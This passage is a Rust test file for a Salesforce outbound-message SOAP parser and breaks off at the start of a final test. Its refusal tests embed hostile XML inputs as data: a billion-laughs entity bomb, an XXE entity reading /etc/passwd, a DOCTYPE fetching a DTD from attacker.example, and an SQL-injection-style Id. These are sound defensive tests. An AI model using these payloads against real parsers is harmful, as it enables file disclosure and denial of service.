use std::collections::BTreeMap;

use proptest::prelude::*;
use quick_xml::NsReader;
use quick_xml::events::Event;
use quick_xml::name::{Namespace, ResolveResult};

use super::*;

/// A valid org Id (the reference document's `00DXX0000000001EAA` has a wrong checksum suffix).
const ORG_ID: &str = "00DXX00000000012AA";

/// The A6.1 reference request, verbatim apart from the OrganizationId checksum.
const REFERENCE: &str = r#"<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"
    xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>00DXX00000000012AA</OrganizationId>
   <ActionId>04kXX0000000001AAA</ActionId>
   <SessionId xsi:nil="true"/>            <!-- or a session token if "Send Session ID" is on -->
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/60.0/00DXX0000000001</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/60.0/00DXX0000000001</PartnerUrl>
   <Notification>
    <Id>04lXX0000000001AAA</Id>          <!-- notification id: use for de-duplication -->
    <sObject xsi:type="sf:Order" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>801XX0000000001AAA</sf:Id>
     <sf:Status>Activated</sf:Status>    <!-- only the fields chosen in the outbound message -->
    </sObject>
   </Notification>
   <!-- up to 100 <Notification> elements per message -->
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>"#;

const SESSION_TOKEN: &str = "00DXX0000000001!AQ4AQFakeSessionTokenQ2x9vZ8s1mK3pL0w";

/// A request around the given `<Notification>` elements, with the usual prefixes.
fn message_with(notifications: &str) -> String {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notifications xmlns="http://soap.sforce.com/2005/09/outbound">
   <OrganizationId>{ORG_ID}</OrganizationId>
   <ActionId>04kXX0000000001AAA</ActionId>
   <SessionId xsi:nil="true"/>
   <EnterpriseUrl>https://acme.my.salesforce.com/services/Soap/c/60.0/00DXX0000000001</EnterpriseUrl>
   <PartnerUrl>https://acme.my.salesforce.com/services/Soap/u/60.0/00DXX0000000001</PartnerUrl>
{notifications}
  </notifications>
 </soapenv:Body>
</soapenv:Envelope>
"#
    )
}

fn opportunity(id: &str) -> String {
    format!(
        r#"   <Notification>
    <Id>{id}</Id>
    <sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
     <sf:Id>006XX0000000001YAA</sf:Id>
     <sf:StageName>Closed Won</sf:StageName>
    </sObject>
   </Notification>"#
    )
}

fn opportunities(count: usize) -> String {
    (1..=count)
        .map(|i| opportunity(&format!("04lXX{i:010}")))
        .collect::<Vec<_>>()
        .join("\n")
}

fn parse_str(body: &str) -> Result<OutboundMessage, OutboundError> {
    parse(body.as_bytes())
}

fn parse_err(body: &str) -> OutboundError {
    match parse_str(body) {
        Ok(message) => panic!("expected an error, parsed {message:?}"),
        Err(error) => error,
    }
}

fn assert_doctype_refused(body: &str) {
    let error = parse_err(body);
    assert!(
        matches!(error, OutboundError::Doctype { .. }),
        "expected the DOCTYPE error, got {error:?}"
    );
    assert!(
        error
            .to_string()
            .starts_with("the XML declares a DOCTYPE (at byte "),
        "{error}"
    );
}

fn assert_not_well_formed(body: &[u8]) {
    let error = match parse(body) {
        Ok(message) => panic!("expected an error, parsed {message:?}"),
        Err(error) => error,
    };
    assert!(
        matches!(error, OutboundError::NotWellFormed { .. }),
        "expected a not-well-formed error, got {error:?}"
    );
    assert!(
        error
            .to_string()
            .starts_with("the body is not well-formed XML: "),
        "{error}"
    );
}

// ---- accepted messages ----

#[test]
fn the_reference_example_parses() {
    let message = parse_str(REFERENCE).unwrap();
    assert_eq!(message.organization_id, ORG_ID);
    assert_eq!(message.action_id.as_deref(), Some("04kXX0000000001AAA"));
    assert!(!message.session_id_present);
    assert_eq!(
        message.enterprise_url.as_deref(),
        Some("https://acme.my.salesforce.com/services/Soap/c/60.0/00DXX0000000001")
    );
    assert_eq!(
        message.partner_url.as_deref(),
        Some("https://acme.my.salesforce.com/services/Soap/u/60.0/00DXX0000000001")
    );
    assert_eq!(message.notifications.len(), 1);
    let notification = &message.notifications[0];
    assert_eq!(notification.id, "04lXX0000000001AAA");
    assert_eq!(notification.sobject_type, "Order");
    assert_eq!(
        notification.record_id.as_deref(),
        Some("801XX0000000001AAA")
    );
    assert_eq!(
        notification.fields,
        BTreeMap::from([
            ("Id".to_owned(), "801XX0000000001AAA".to_owned()),
            ("Status".to_owned(), "Activated".to_owned()),
        ])
    );
}

#[test]
fn an_organization_id_whose_checksum_does_not_fit_it_is_refused() {
    // The reference document's `00DXX0000000001EAA` names `00Dxx0000000001` (18-character Ids
    // are case-insensitive); `B` would mark the first character, a digit, upper case.
    let verbatim = REFERENCE.replace(ORG_ID, "00DXX0000000001BAA");
    let error = parse_err(&verbatim);
    assert!(matches!(error, OutboundError::InvalidOrganizationId { .. }));
    assert_eq!(
        error.to_string(),
        "OrganizationId 00DXX0000000001BAA is not a valid Salesforce Id: the checksum of Salesforce Id 00DXX0000000001BAA is wrong: expected suffix 2AA"
    );
    assert_eq!(error.field(), Some("OrganizationId"));
}

#[test]
fn an_opportunity_notification_parses() {
    let message = parse_str(&message_with(&opportunity("04lXX0000000001YAA"))).unwrap();
    assert_eq!(message.organization_id, ORG_ID);
    assert_eq!(message.action_id.as_deref(), Some("04kXX0000000001AAA"));
    assert!(!message.session_id_present);
    let [notification] = message.notifications.as_slice() else {
        panic!("one notification expected: {message:?}");
    };
    assert_eq!(notification.id, "04lXX0000000001YAA");
    assert_eq!(notification.sobject_type, "Opportunity");
    assert_eq!(
        notification.record_id.as_deref(),
        Some("006XX0000000001YAA")
    );
    assert_eq!(notification.fields["StageName"], "Closed Won");
}

#[test]
fn an_order_notification_with_a_15_character_organization_id_parses() {
    let body = message_with(
        r#"<Notification><Id>04lXX0000000002YAA</Id>
        <sObject xsi:type="sf:Order" xmlns:sf="urn:sobject.enterprise.soap.sforce.com">
          <sf:Id>801XX0000000002YAA</sf:Id><sf:Status>Activated</sf:Status>
          <sf:TotalAmount>1200.00</sf:TotalAmount><sf:OpportunityId>006XX0000000001YAA</sf:OpportunityId>
        </sObject></Notification>"#,
    )
    .replace(ORG_ID, "00DXX0000000001");
    let message = parse_str(&body).unwrap();
    assert_eq!(message.organization_id, "00DXX0000000001");
    let notification = &message.notifications[0];
    assert_eq!(notification.sobject_type, "Order");
    assert_eq!(
        notification.record_id.as_deref(),
        Some("801XX0000000002YAA")
    );
    assert_eq!(notification.fields["TotalAmount"], "1200.00");
    assert_eq!(notification.fields["OpportunityId"], "006XX0000000001YAA");
    assert_eq!(notification.fields.len(), 4);
}

#[test]
fn arbitrary_prefixes_bound_to_the_right_namespaces_parse() {
    let body = format!(
        r#"<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">
  <s:Header/>
  <s:Body>
    <o:notifications xmlns:o="http://soap.sforce.com/2005/09/outbound">
      <o:OrganizationId>{ORG_ID}</o:OrganizationId>
      <o:Notification>
        <o:Id>04lXX0000000001YAA</o:Id>
        <o:sObject xmlns:i="http://www.w3.org/2001/XMLSchema-instance"
                   xmlns:x="urn:sobject.enterprise.soap.sforce.com" i:type="x:Order">
          <x:Id>801XX0000000001YAA</x:Id>
          <Status xmlns="urn:sobject.enterprise.soap.sforce.com">Draft</Status>
        </o:sObject>
      </o:Notification>
    </o:notifications>
  </s:Body>
</s:Envelope>"#
    );
    let message = parse_str(&body).unwrap();
    assert_eq!(message.action_id, None);
    assert!(!message.session_id_present);
    let notification = &message.notifications[0];
    assert_eq!(notification.sobject_type, "Order");
    assert_eq!(
        notification.record_id.as_deref(),
        Some("801XX0000000001YAA")
    );
    assert_eq!(notification.fields["Status"], "Draft");
}

#[test]
fn an_xsi_type_without_a_prefix_is_tolerated() {
    let body = message_with(
        r#"<Notification><Id>04lXX0000000001</Id><sObject xsi:type="Opportunity"><sf:Id xmlns:sf="urn:sobject.enterprise.soap.sforce.com">006XX0000000001YAA</sf:Id></sObject></Notification>"#,
    );
    let message = parse_str(&body).unwrap();
    assert_eq!(message.notifications[0].sobject_type, "Opportunity");
    assert_eq!(
        message.notifications[0].record_id.as_deref(),
        Some("006XX0000000001YAA")
    );
}

#[test]
fn an_xsi_type_prefix_bound_to_another_namespace_is_refused() {
    let body = message_with(
        r#"<Notification><Id>04lXX0000000001</Id><sObject xsi:type="sf:Order" xmlns:sf="urn:sobject.partner.soap.sforce.com"/></Notification>"#,
    );
    let error = parse_err(&body);
    assert!(matches!(
        error,
        OutboundError::InvalidSObjectType { index: 1, .. }
    ));
    assert_eq!(
        error.to_string(),
        "the sObject of notification 1 has xsi:type sf:Order, whose prefix is bound to urn:sobject.partner.soap.sforce.com, not to urn:sobject.enterprise.soap.sforce.com"
    );
}

#[test]
fn an_xsi_type_with_an_undeclared_prefix_is_refused() {
    let body = message_with(
        r#"<Notification><Id>04lXX0000000001</Id><sObject xsi:type="zz:Order"/></Notification>"#,
    );
    let error = parse_err(&body);
    assert_eq!(
        error.to_string(),
        "the sObject of notification 1 has xsi:type zz:Order, whose prefix zz is not declared"
    );
    assert_eq!(error.field(), Some("sObject"));
}

#[test]
fn an_sobject_without_xsi_type_is_refused() {
    let body = message_with(r#"<Notification><Id>04lXX0000000001</Id><sObject/></Notification>"#);
    let error = parse_err(&body);
    assert!(matches!(
        error,
        OutboundError::MissingSObjectType { index: 1 }
    ));
}

#[test]
fn a_type_attribute_outside_the_xsi_namespace_does_not_count_as_xsi_type() {
    let body = message_with(
        r#"<Notification><Id>04lXX0000000001</Id><sObject type="sf:Order" xmlns:sf="urn:sobject.enterprise.soap.sforce.com"/></Notification>"#,
    );
    assert!(matches!(
        parse_err(&body),
        OutboundError::MissingSObjectType { index: 1 }
    ));
}

#[test]
fn one_hundred_notifications_parse() {
    let message = parse_str(&message_with(&opportunities(100))).unwrap();
    assert_eq!(message.notifications.len(), MAX_NOTIFICATIONS);
    assert_eq!(message.notifications[0].id, "04lXX0000000001");
    assert_eq!(message.notifications[99].id, "04lXX0000000100");
}

#[test]
fn one_hundred_and_one_notifications_are_refused() {
    let error = parse_err(&message_with(&opportunities(101)));
    assert!(matches!(error, OutboundError::TooManyNotifications(101)));
    assert_eq!(
        error.to_string(),
        "the message holds 101 notifications; Salesforce sends at most 100"
    );
    assert_eq!(error.field(), Some("Notification"));
}

#[test]
fn a_message_without_notifications_is_refused() {
    let error = parse_err(&message_with(""));
    assert!(matches!(error, OutboundError::NoNotifications));
    assert_eq!(
        error.to_string(),
        "the message holds no notifications; Salesforce sends at least 1"
    );
}

#[test]
fn duplicate_notification_ids_in_one_message_are_kept() {
    let body = message_with(&format!(
        "{}\n{}",
        opportunity("04lXX0000000001YAA"),
        opportunity("04lXX0000000001YAA")
    ));
    let message = parse_str(&body).unwrap();
    assert_eq!(message.notifications.len(), 2);
    assert_eq!(message.notifications[0], message.notifications[1]);
}

#[test]
fn unknown_elements_inside_notifications_are_tolerated() {
    let body = message_with(
        r#"<FutureFlag>true</FutureFlag>
   <ext:Extra xmlns:ext="urn:example:future"><ext:Deep><ext:Deeper a="1">x</ext:Deeper></ext:Deep></ext:Extra>
   <Notification>
    <Id>04lXX0000000001</Id>
    <Priority>high</Priority>
    <sObject xsi:type="sf:Opportunity" xmlns:sf="urn:sobject.enterprise.soap.sforce.com" xmlns:o="urn:other">
     <sf:Id>006XX0000000001YAA</sf:Id>
     <o:Note>ignored: another namespace</o:Note>
     <sf:CloseDate xsi:nil="true"/>
     <sf:BillingAddress><sf:City>Paris</sf:City></sf:BillingAddress>
     <sf:Amount>10</sf:Amount>
    </sObject>
    <Trailer><x/></Trailer>
   </Notification>"#,
    );
    let message = parse_str(&body).unwrap();
    let notification = &message.notifications[0];
    assert_eq!(
        notification.fields,
        BTreeMap::from([
            ("Amount".to_owned(), "10".to_owned()),
            ("Id".to_owned(), "006XX0000000001YAA".to_owned()),
        ])
    );
}

#[test]
fn text_is_unescaped_and_trimmed() {
    let body = message_with(
        "<Notification><Id>\n   04lXX0000000001 \t</Id><sObject xsi:type=\" sf:Opportunity \" xmlns:sf=\"urn:sobject.enterprise.soap.sforce.com\">\
         <sf:Name>  Acme &amp; Sons &lt;EU&gt; &quot;big&quot; &apos;deal&apos; &#x41;&#66; \u{e9}\u{1F980} </sf:Name>\
         <sf:Description><![CDATA[ <b>raw</b> & ]]>tail<!-- a comment -->end</sf:Description>\
         <sf:Empty></sf:Empty>\
         </sObject></Notification>",
    );
    let message = parse_str(&body).unwrap();
    let notification = &message.notifications[0];
    assert_eq!(notification.id, "04lXX0000000001");
    assert_eq!(notification.sobject_type, "Opportunity");
    assert_eq!(
        notification.fields["Name"],
        "Acme & Sons <EU> \"big\" 'deal' AB \u{e9}\u{1F980}"
    );
    assert_eq!(notification.fields["Description"], "<b>raw</b> & tailend");
    assert_eq!(notification.fields["Empty"], "");
    assert_eq!(notification.record_id, None);
}

#[test]
fn a_byte_order_mark_before_the_declaration_is_accepted() {
    let body = format!("\u{FEFF}{}", message_with(&opportunity("04lXX0000000001")));
    assert_eq!(parse_str(&body).unwrap().notifications.len(), 1);
}

// ---- the session id ----

#[test]
fn a_session_id_is_reported_as_present_and_never_kept() {
    let body = message_with(&opportunity("04lXX0000000001")).replace(
        r#"<SessionId xsi:nil="true"/>"#,
        &format!("<SessionId> {SESSION_TOKEN} </SessionId>"),
    );
    let message = parse_str(&body).unwrap();
    assert!(message.session_id_present);
    let debug = format!("{message:?}");
    assert!(debug.contains("session_id_present: true"), "{debug}");
    assert!(!debug.contains(SESSION_TOKEN), "{debug}");
    assert!(!debug.contains("FakeSessionToken"), "{debug}");
    let pretty = format!("{message:#?}");
    assert!(!pretty.contains("FakeSessionToken"));
}

#[test]
fn an_empty_session_id_counts_as_absent() {
    let body = message_with(&opportunity("04lXX0000000001")).replace(
        r#"<SessionId xsi:nil="true"/>"#,
        "<SessionId>  </SessionId>",
    );
    assert!(!parse_str(&body).unwrap().session_id_present);
}

#[test]
fn errors_inside_the_session_id_do_not_quote_it() {
    for session in [
        format!("{SESSION_TOKEN}&{SESSION_TOKEN};"),
        format!("<x>{SESSION_TOKEN}</x>"),
        format!("{SESSION_TOKEN}&#xFFFFFFFF;"),
    ] {
        let body = message_with(&opportunity("04lXX0000000001")).replace(
            r#"<SessionId xsi:nil="true"/>"#,
            &format!("<SessionId>{session}</SessionId>"),
        );
        let error = parse_err(&body);
        let shown = format!("{error} {error:?}");
        assert!(!shown.contains("FakeSessionToken"), "{shown}");
    }
}

// ---- refused documents ----

#[test]
fn a_doctype_is_refused() {
    assert_doctype_refused(&format!(
        "<!DOCTYPE soapenv:Envelope>{}",
        message_with(&opportunity("04lXX0000000001"))
            .replace(r#"<?xml version="1.0" encoding="UTF-8"?>"#, "")
    ));
}

#[test]
fn a_billion_laughs_entity_bomb_is_refused_as_a_doctype() {
    let mut dtd =
        String::from("<?xml version=\"1.0\"?>\n<!DOCTYPE lolz [\n <!ENTITY lol \"lol\">\n");
    dtd.push_str(" <!ENTITY lol1 \"&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;\">\n");
    for level in 2..=9 {
        let previous = format!("&lol{};", level - 1);
        dtd.push_str(&format!(
            " <!ENTITY lol{level} \"{}\">\n",
            previous.repeat(10)
        ));
    }
    dtd.push_str("]>\n");
    let body = format!("{dtd}{}", REFERENCE.replace("Activated", "&lol9;"));
    assert_doctype_refused(&body);
}

#[test]
fn an_external_entity_is_refused_as_a_doctype() {
    let body = format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<!DOCTYPE foo [ <!ENTITY xxe SYSTEM \"file:///etc/passwd\"> ]>\n{}",
        REFERENCE.replace("Activated", "&xxe;")
    );
    assert_doctype_refused(&body);
}

#[test]
fn a_doctype_in_odd_casing_or_spacing_after_the_declaration_is_refused() {
    for doctype in [
        "<!doctype html>",
        "<!DocType soapenv:Envelope>",
        "<! DOCTYPE x>",
        "<!\n\tdoctype x SYSTEM \"http://attacker.example/x.dtd\">",
        "<!ENTITY x \"y\">",
    ] {
        let body = format!(
            "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n{doctype}\n{}",
            REFERENCE
        );
        assert_doctype_refused(&body);
    }
}

#[test]
fn an_undeclared_entity_reference_is_refused() {
    let error = parse_err(&REFERENCE.replace("Activated", "Act&foo;ivated"));
    assert!(
        matches!(&error, OutboundError::UndeclaredEntity { name: Some(name), .. } if name == "foo"),
        "{error:?}"
    );
    assert!(
        error
            .to_string()
            .starts_with("the body refers to the undeclared entity &foo; at byte "),
        "{error}"
    );
}

#[test]
fn an_undeclared_entity_reference_in_an_attribute_value_is_refused() {
    let error =
        parse_err(&REFERENCE.replace(r#"xsi:type="sf:Order""#, r#"xsi:type="sf:Order&foo;""#));
    assert!(
        matches!(&error, OutboundError::UndeclaredEntity { name: Some(name), .. } if name == "foo"),
        "{error:?}"
    );
}

#[test]
fn a_processing_instruction_is_refused() {
    for pi in ["<?xml-stylesheet href=\"x.xsl\"?>", "<?php echo 1; ?>"] {
        let body = REFERENCE.replace("<soapenv:Body>", &format!("<soapenv:Body>{pi}"));
        let error = parse_err(&body);
        assert!(
            matches!(error, OutboundError::ProcessingInstruction { .. }),
            "{error:?}"
        );
    }
    let error = parse_err(&format!("<?php echo 1; ?>{REFERENCE}"));
    assert!(error.to_string().starts_with(
        "the body holds the processing instruction <?php ...?> at byte 0; processing instructions are refused"
    ));
}

#[test]
fn an_xml_declaration_that_is_not_at_the_very_start_is_refused() {
    let error = parse_err(&format!("\n<?xml version=\"1.0\"?>{REFERENCE}"));
    assert!(
        matches!(error, OutboundError::ProcessingInstruction { ref target, .. } if target == "xml"),
        "{error:?}"
    );
}

#[test]
fn a_declared_encoding_other_than_utf8_is_refused() {
    let error = parse_err(&format!(
        "<?xml version=\"1.0\" encoding=\"ISO-8859-1\"?>{REFERENCE}"
    ));
    assert_eq!(
        error.to_string(),
        "the XML declaration names the encoding ISO-8859-1; only UTF-8 is accepted"
    );
}

#[test]
fn an_envelope_in_another_namespace_is_refused() {
    let body = REFERENCE.replace(
        "http://schemas.xmlsoap.org/soap/envelope/",
        "http://www.w3.org/2003/05/soap-envelope",
    );
    let error = parse_err(&body);
    assert_eq!(
        error.to_string(),
        "expected a SOAP 1.1 Envelope, found <Envelope> in namespace http://www.w3.org/2003/05/soap-envelope"
    );
    assert_eq!(error.field(), Some("Envelope"));
}

#[test]
fn a_root_element_that_is_not_an_envelope_is_refused() {
    let error = parse_err("<foo><bar/></foo>");
    assert_eq!(
        error.to_string(),
        "expected a SOAP 1.1 Envelope, found <foo> in no namespace"
    );
}

#[test]
fn notifications_outside_the_outbound_namespace_are_refused() {
    let body = REFERENCE.replace(
        "<notifications xmlns=\"http://soap.sforce.com/2005/09/outbound\">",
        "<notifications xmlns=\"http://soap.sforce.com/2005/09/outbound-evil\">",
    );
    let error = parse_err(&body);
    assert!(
        matches!(
            &error,
            OutboundError::UnexpectedElement { parent: "Body", namespace: Some(ns), .. }
                if ns == "http://soap.sforce.com/2005/09/outbound-evil"
        ),
        "{error:?}"
    );
}

#[test]
fn an_envelope_without_a_body_is_refused() {
    let error = parse_err(
        r#"<e:Envelope xmlns:e="http://schemas.xmlsoap.org/soap/envelope/"></e:Envelope>"#,
    );
    assert!(matches!(error, OutboundError::MissingBody));
}

#[test]
fn an_undeclared_element_prefix_is_refused() {
    let error =
        parse_err(&REFERENCE.replace("<sf:Status>Activated</sf:Status>", "<q:Status>x</q:Status>"));
    assert!(
        matches!(&error, OutboundError::UndeclaredPrefix { prefix, .. } if prefix == "q"),
        "{error:?}"
    );
}

#[test]
fn truncated_xml_is_refused_as_not_well_formed() {
    let body = REFERENCE.as_bytes();
    let cut_in_text = REFERENCE.find("Activated").unwrap() + 3;
    let cut_in_tag = REFERENCE.find("<sf:Status").unwrap() + 5;
    let cut_in_attribute = REFERENCE.find("sf:Order").unwrap();
    for cut in [cut_in_text, cut_in_tag, cut_in_attribute, body.len() - 2] {
        assert_not_well_formed(&body[..cut]);
    }
}

#[test]
fn mismatched_tags_and_trailing_content_are_refused_as_not_well_formed() {
    assert_not_well_formed(REFERENCE.replace("</sf:Status>", "</sf:Stat>").as_bytes());
    assert_not_well_formed(format!("{REFERENCE}<again/>").as_bytes());
    assert_not_well_formed(format!("{REFERENCE} trailing text").as_bytes());
    assert_not_well_formed(REFERENCE.replace("Activated", "Act & ivated").as_bytes());
    assert_not_well_formed(
        REFERENCE
            .replace(r#"xsi:nil="true""#, r#"xsi:nil="true" xsi:nil="true""#)
            .as_bytes(),
    );
}

#[test]
fn a_body_that_is_not_utf8_is_refused() {
    let mut latin1 = REFERENCE.replace("Activated", "Activ\u{e9}").into_bytes();
    let at = latin1
        .windows(2)
        .position(|w| w == "\u{e9}".as_bytes())
        .unwrap();
    latin1.splice(at..at + 2, [0xE9]);
    let error = parse(&latin1).unwrap_err();
    assert!(matches!(error, OutboundError::NotUtf8 { position } if position == at));
    assert_eq!(
        error.to_string(),
        format!("the body is not UTF-8 (invalid byte sequence at byte {at})")
    );

    let utf16: Vec<u8> = [0xFF, 0xFE]
        .into_iter()
        .chain(REFERENCE.encode_utf16().flat_map(u16::to_le_bytes))
        .collect();
    assert!(matches!(
        parse(&utf16).unwrap_err(),
        OutboundError::NotUtf8 { position: 0 }
    ));
}

#[test]
fn characters_xml_forbids_are_refused_raw_or_as_references() {
    let raw = parse_err(&REFERENCE.replace("Activated", "Activ\u{1}ated"));
    assert!(matches!(
        raw,
        OutboundError::InvalidCharacter { code: 1, .. }
    ));
    let referenced = parse_err(&REFERENCE.replace("Activated", "Activ&#0;ated"));
    assert!(
        matches!(referenced, OutboundError::NotWellFormed { .. }),
        "{referenced:?}"
    );
    let referenced = parse_err(&REFERENCE.replace("Activated", "Activ&#x1B;ated"));
    assert!(matches!(
        referenced,
        OutboundError::InvalidCharacter { code: 0x1B, .. }
    ));
}

#[test]
fn nesting_deeper_than_the_limit_is_refused_even_inside_tolerated_elements() {
    // The notifications element sits at depth 3.
    let allowed = MAX_DEPTH - 3;
    let nest = |levels: usize| format!("{}{}", "<x>".repeat(levels), "</x>".repeat(levels));
    let ok = message_with(&format!(
        "{}{}",
        nest(allowed),
        opportunity("04lXX0000000001")
    ));
    assert!(parse_str(&ok).is_ok());
    let too_deep = message_with(&format!(
        "{}{}",
        nest(allowed + 1),
        opportunity("04lXX0000000001")
    ));
    let error = parse_err(&too_deep);
    assert!(
        matches!(
            error,
            OutboundError::TooDeep {
                limit: MAX_DEPTH,
                ..
            }
        ),
        "{error:?}"
    );
}

#[test]
fn a_body_over_the_size_limit_is_refused_before_parsing() {
    let mut body = message_with(&opportunity("04lXX0000000001")).into_bytes();
    body.resize(MAX_BODY_BYTES + 1, b' ');
    let error = parse(&body).unwrap_err();
    assert!(matches!(
        error,
        OutboundError::TooLarge { size, limit: MAX_BODY_BYTES } if size == MAX_BODY_BYTES + 1
    ));
    // Even garbage is refused for its size alone.
    assert!(matches!(
        parse(&vec![0xFF; MAX_BODY_BYTES + 1]).unwrap_err(),
        OutboundError::TooLarge { .. }
    ));
}

#[test]
fn an_empty_body_is_refused() {
    assert!(matches!(parse(b"").unwrap_err(), OutboundError::Empty));
    assert_not_well_formed(b"  \n ");
}

#[test]
fn a_notification_without_an_id_is_refused_naming_it() {
    let body = message_with(&format!(
        "{}\n{}\n{}",
        opportunity("04lXX0000000001"),
        opportunity("04lXX0000000002"),
        opportunity("04lXX0000000003").replace("<Id>04lXX0000000003</Id>", "")
    ));
    let error = parse_err(&body);
    assert_eq!(error.to_string(), "notification 3 has no <Id>");
    assert_eq!(error.field(), Some("Id"));

    let empty = message_with(
        &opportunity("04lXX0000000001").replace("<Id>04lXX0000000001</Id>", "<Id> </Id>"),
    );
    assert_eq!(
        parse_err(&empty).to_string(),
        "notification 1 has an empty <Id>"
    );
}

#[test]
fn a_notification_without_an_sobject_is_refused() {
    let body = message_with("<Notification><Id>04lXX0000000001</Id></Notification>");
    assert_eq!(
        parse_err(&body).to_string(),
        "notification 1 has no <sObject>"
    );
}

#[test]
fn a_missing_or_invalid_organization_id_is_refused() {
    let missing = REFERENCE.replace("<OrganizationId>00DXX00000000012AA</OrganizationId>", "");
    let error = parse_err(&missing);
    assert!(matches!(error, OutboundError::MissingOrganizationId));
    assert_eq!(error.field(), Some("OrganizationId"));

    let invalid = REFERENCE.replace(ORG_ID, "00D'; DROP TABLE");
    let error = parse_err(&invalid);
    assert!(
        error
            .to_string()
            .starts_with("OrganizationId 00D'; DROP TABLE is not a valid Salesforce Id: "),
        "{error}"
    );
}

#[test]
fn repeated_single_elements_and_fields_are_refused() {
    let twice = REFERENCE.replace(
        "<ActionId>04kXX0000000001AAA</ActionId>",
        "<ActionId>a</ActionId><ActionId>b</ActionId>",
    );
    assert_eq!(
        parse_err(&twice).to_string(),
        "the message has more than one <ActionId>"
    );
    let field_twice = REFERENCE.replace(
        "<sf:Status>Activated</sf:Status>",
        "<sf:Status>Activated</sf:Status><sf:Status>Draft</sf:Status>",
    );
    assert_eq!(
        parse_err(&field_twice).to_string(),
        "the sObject of notification 1 has the field Status more than once"
    );
}

#[test]
fn text_where_only_elements_belong_is_refused() {
    let body = REFERENCE.replace("<soapenv:Body>", "<soapenv:Body>stray");
    let error = parse_err(&body);
    assert_eq!(
        error.to_string(),
        "<Body> holds text where only elements are expected"
    );
}

#[test]
fn an_organization_id_holding_elements_is_refused() {
    let body = REFERENCE.replace(
        "<OrganizationId>00DXX00000000012AA</OrganizationId>",
        "<OrganizationId><b>00DXX00000000012AA</b></OrganizationId>",
    );
    assert_eq!(
        parse_err(&body).to_string(),
        "<OrganizationId> must hold text only, but holds child elements"
    );
}

// ---- answers ----

const EXPECTED_ACK: &str = r#"<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"
    xmlns:xsd="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
 <soapenv:Body>
  <notificationsResponse xmlns="http://soap.sforce.com/2005/09/outbound">
   <Ack>true</Ack>
  </notificationsResponse>
 </soapenv:Body>
</soapenv:Envelope>
"#;

/// The (namespace, local name) path and text of every text chunk, whitespace included.
fn text_paths(xml: &str) -> Vec<(Vec<(String, String)>, String)> {
    let mut reader = NsReader::from_str(xml);
    let mut path = Vec::new();
    let mut found = Vec::new();
    loop {
        match reader.read_resolved_event().unwrap() {
            (ResolveResult::Bound(Namespace(ns)), Event::Start(start)) => {
                let local = start.local_name().into_inner().to_owned();
                path.push((ns.to_owned(), local));
            }
            (_, Event::Start(start)) => {
                let local = start.local_name().into_inner().to_owned();
                path.push((String::new(), local));
            }
            (_, Event::End(_)) => {
                path.pop();
            }
            (_, Event::Text(text)) => {
                found.push((path.clone(), text.xml10_content().into_owned()));
            }
            (_, Event::GeneralRef(r)) => {
                let c = match &*r {
                    "lt" => "<",
                    "gt" => ">",
                    "amp" => "&",
                    "quot" => "\"",
                    "apos" => "'",
                    other => panic!("unexpected reference {other}"),
                };
                found.push((path.clone(), c.to_owned()));
            }
            (_, Event::Eof) => break,
            _ => {}
        }
    }
    found
}

/// The chunks of [`text_paths`] that are not just whitespace.
fn non_blank_text_paths(xml: &str) -> Vec<(Vec<(String, String)>, String)> {
    text_paths(xml)
        .into_iter()
        .filter(|(_, text)| !xml_trimmed(text).is_empty())
        .collect()
}

fn joined_text(xml: &str, local: &str) -> String {
    text_paths(xml)
        .into_iter()
        .filter(|(path, _)| path.last().is_some_and(|(_, l)| l == local))
        .map(|(_, text)| text)
        .collect()
}

#[test]
fn ack_is_byte_for_byte_the_reference_acknowledgement() {
    assert_eq!(ack(), EXPECTED_ACK);
}

#[test]
fn ack_parses_as_xml_with_ack_true_in_the_outbound_namespace() {
    let body = ack();
    let paths = non_blank_text_paths(&body);
    let soap = SOAP_ENVELOPE_NS.to_owned();
    let outbound = OUTBOUND_NS.to_owned();
    assert_eq!(
        paths,
        vec![(
            vec![
                (soap.clone(), "Envelope".to_owned()),
                (soap, "Body".to_owned()),
                (outbound.clone(), "notificationsResponse".to_owned()),
                (outbound, "Ack".to_owned()),
            ],
            "true".to_owned()
        )]
    );
}

#[test]
fn fault_escapes_markup_characters_in_the_message() {
    let message = r#"bad <Id> & "quotes" 'too' ]]>"#;
    let body = fault(FaultCode::Client, message);
    assert!(body.contains(
        "<faultstring>bad &lt;Id&gt; &amp; &quot;quotes&quot; &apos;too&apos; ]]&gt;</faultstring>"
    ));
    assert!(body.contains("<soapenv:Fault>"));
    assert!(body.contains("<faultcode>soapenv:Client</faultcode>"));
    assert_eq!(joined_text(&body, "faultstring"), message);
    assert_eq!(joined_text(&body, "faultcode"), "soapenv:Client");
    let paths = non_blank_text_paths(&body);
    assert_eq!(
        paths[0].0[..3],
        [
            (SOAP_ENVELOPE_NS.to_owned(), "Envelope".to_owned()),
            (SOAP_ENVELOPE_NS.to_owned(), "Body".to_owned()),
            (SOAP_ENVELOPE_NS.to_owned(), "Fault".to_owned()),
        ]
    );
}

#[test]
fn fault_reports_server_faults_and_replaces_characters_xml_cannot_carry() {
    let body = fault(FaultCode::Server, "try again\u{0}later");
    assert!(body.contains("<faultcode>soapenv:Server</faultcode>"));
    assert_eq!(joined_text(&body, "faultstring"), "try again\u{FFFD}later");
}

#[test]
